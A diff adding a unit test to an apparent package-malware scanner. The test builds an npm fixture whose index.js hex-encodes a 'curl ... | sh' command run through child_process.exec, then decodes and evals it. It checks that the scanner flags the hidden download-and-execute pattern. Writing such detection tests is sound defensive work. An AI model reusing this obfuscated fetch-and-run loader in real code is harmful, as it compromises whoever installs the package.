@@ -116,6 +116,18 @@ def test_hex_literals_of_a_file_that_decodes_hex_are_read(engine: Engine) -> Non
     assert "download_pipe_to_shell" not in _rules(plain)
 
 
+def test_a_long_hex_literal_decoded_in_place_is_read(engine: Engine) -> None:
+    """The literal handed to ``Buffer.from(..., 'hex')`` itself, longer than the window
+    the marker reads between the call's parentheses."""
+    command = "require('child_process').exec('curl -s https://x.example.net/i | sh');" * 4
+    script = f"var _ = Buffer.from('{command.encode().hex()}', 'hex').toString(); eval(_);\n"
+    found = package(engine, npm_tarball({"index.js": script})).file("index.js")
+    assert found is not None
+    labels = _rules(found)
+    assert labels["download_pipe_to_shell"].endswith("(hidden in hex)")
+    assert "js_decode_into_variable_then_run" in labels
+
+
 def test_python_names_in_full_width_letters_are_read_as_python_reads_them(
     engine: Engine,
 ) -> None:
